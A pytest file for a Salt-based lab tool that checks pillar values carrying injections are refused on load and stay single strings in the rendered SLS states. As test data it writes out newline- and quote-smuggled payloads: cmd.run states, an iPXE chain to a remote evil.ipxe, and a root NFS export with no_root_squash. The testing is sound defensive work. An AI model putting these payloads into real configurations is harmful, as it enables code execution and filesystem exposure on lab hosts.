"""
The concrete injections found in review, each reproduced and shown harmless:

- ``devstack:repo`` with a newline added a ``cmd.run`` state to
  ``netlab/node/prepare.sls``;
- ``image:kernel_cmdline`` with a newline added a ``chain`` line to a node's iPXE
  script;
- ``netnode:salt_master`` with a newline added a line to the node's minion config;
- ``netnode:storage`` with a quote added a ganesha EXPORT of ``/``.

Each is refused when the lab is loaded (naming the pillar path), and the SLS is
rendered through Salt's own renderers with the value handed over unvalidated (a
slice as a node would see it) to show that serialisation keeps it one string.
"""

import copy
import os

import pytest
import salt.config
import salt.loader
import salt.template

import netlab_lab
import netlab_roots

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
EVIL_REPO = ("https://opendev.org/openstack/devstack\n"
             "netlab-evil:\n  cmd.run:\n    - name: touch /tmp/netlab-pwned")


@pytest.mark.parametrize("keys, value", [
    (("devstack", "repo"), EVIL_REPO),
    (("image", "kernel_cmdline"), "quiet\nchain http://192.168.42.66/evil.ipxe"),
    (("netnode", "salt_master"), "192.168.42.2\nmaster_finger: x"),
    (("netnode", "storage"), '/srv/netlab"; } EXPORT { Path = "/'),
    (("netnode", "storage"), "/srv/netlab\n/ *(rw,no_root_squash)"),
], ids=["repo-newline", "kernel_cmdline-chain", "salt_master-newline", "storage-quote",
        "storage-newline"])
def test_each_injection_is_refused_at_load_with_its_path(example_pillar, keys, value):
    raw = copy.deepcopy(example_pillar)
    raw[keys[0]][keys[1]] = value
    with pytest.raises(netlab_lab.LabError) as exc:
        netlab_lab.load(raw)
    assert any(e.startswith(netlab_lab.path(*keys) + ": ") for e in exc.value.errors), \
        exc.value.errors


def _render_sls(tmp_path, sls_path, pillar, checkout):
    root = tmp_path / "salt"
    opts = salt.config.minion_config(None)
    opts.update({
        "id": "nuc2", "file_client": "local", "root_dir": str(root),
        "cachedir": str(root / "cache"), "extension_modules": str(root / "extmods"),
        "module_dirs": [os.path.join(REPO, "_modules")],
        "states_dirs": [os.path.join(REPO, "_states")],
        "utils_dirs": [os.path.join(REPO, "_utils")],
        "grains": {"id": "nuc2", "os_family": "Debian"},
        "file_roots": {"base": [REPO]}, "pillar": pillar,
    })
    utils = salt.loader.utils(opts)
    mods = salt.loader.minion_mods(opts, utils=utils)
    # what devstack.checkout_source gives back for this slice, unvalidated
    mods["devstack.checkout_source"] = lambda: checkout
    renderers = salt.loader.render(opts, mods)
    return salt.template.compile_template(
        os.path.join(REPO, sls_path), renderers, "jinja|yaml",
        opts["renderer_blacklist"], opts["renderer_whitelist"], saltenv="base",
        sls=sls_path[:-4].replace("/", "."), tpldir=os.path.dirname(sls_path),
        tplpath=os.path.join(REPO, sls_path))


def test_prepare_sls_keeps_an_unvalidated_repo_one_string(tmp_path):
    ds = {"repo": EVIL_REPO, "branch": "master\nx: y", "user": "stack",
          "dest": "/opt/stack"}
    checkout = dict(ds, target="/opt/stack/devstack")
    data = _render_sls(tmp_path, "netlab/node/prepare.sls",
                       {"netlab_node": {"devstack": ds}}, checkout)
    assert "netlab-evil" not in data
    assert not any("cmd" in str(list(v)) for k, v in data.items() if k != "include")
    args = {k: v for d in data["netlab-node-prepare-git-latest"]["git.latest"]
            for k, v in d.items()}
    assert args["name"] == EVIL_REPO
    assert args["rev"] == "master\nx: y"


def test_prepare_sls_keeps_unvalidated_project_checkouts_one_string_each(tmp_path):
    ds = {"repo": "https://opendev.org/openstack/devstack", "branch": "master",
          "user": "stack", "dest": "/opt/stack"}
    evil = "nova:\nnetlab-evil:\n  cmd.run:\n    - name: id"
    projects = [{"name": evil, "target": "/opt/stack/nova\nx: y",
                 "repo": EVIL_REPO, "branch": "master"}]
    checkout = dict(ds, target="/opt/stack/devstack", projects=projects)
    data = _render_sls(tmp_path, "netlab/node/prepare.sls",
                       {"netlab_node": {"devstack": ds}}, checkout)
    assert "netlab-evil" not in data
    assert not any("cmd" in str(list(v)) for k, v in data.items() if k != "include")
    args = {k: v for d in data["netlab-node-prepare-git-latest-" + evil]["git.latest"]
            for k, v in d.items()}
    assert (args["name"], args["target"]) == (EVIL_REPO, "/opt/stack/nova\nx: y")


def test_localconf_sls_keeps_an_unvalidated_dest_one_string(tmp_path):
    dest = "/opt/stack\nnetlab-evil:\n  cmd.run:\n    - name: id"
    data = _render_sls(tmp_path, "netlab/node/localconf.sls",
                       {"netlab_node": {"devstack": {"dest": dest, "user": "stack"}}}, {})
    assert "netlab-evil" not in data
    args = {k: v for d in data["netlab-node-localconf-file-directory-dest"]["file.directory"]
            for k, v in d.items()}
    assert args["name"] == dest


def test_minion_config_has_exactly_two_settings(example_pillar):
    """What reaches the minion config is a validated address: one line each."""
    raw = copy.deepcopy(example_pillar)
    raw["netnode"]["salt_master"] = "netnode.lab.example"
    lab = netlab_lab.load(raw)
    text = netlab_roots.minion_conf_text(lab, "nuc2")
    settings = [ln for ln in text.splitlines() if ln and not ln.startswith("#")]
    assert settings == ["id: nuc2", "master: netnode.lab.example"]


def test_the_validation_report_quotes_a_bad_value_without_running_it(tmp_path,
                                                                     example_pillar):
    """The failure state lists every problem, quoting bad values: a value holding
    YAML must stay inside the comment, not become a state."""
    raw = copy.deepcopy(example_pillar)
    raw["netnode"]["ip"] = "192.168.42.2\nnetlab-evil:\n  cmd.run:\n    - name: id"
    data = _render_sls(tmp_path, "netlab/netnode/check.sls", {"netlab": raw}, {})
    assert list(data) == ["netlab-netnode-check-netlab-invalid_pillar"]
    args = {k: v for d in data["netlab-netnode-check-netlab-invalid_pillar"][
        "netlab.invalid_pillar"] for k, v in d.items()}
    assert args["failhard"] is True
    text = "\n".join(args["errors"])
    assert "netlab:netnode:ip: " in text
    assert "netlab-evil:" in text
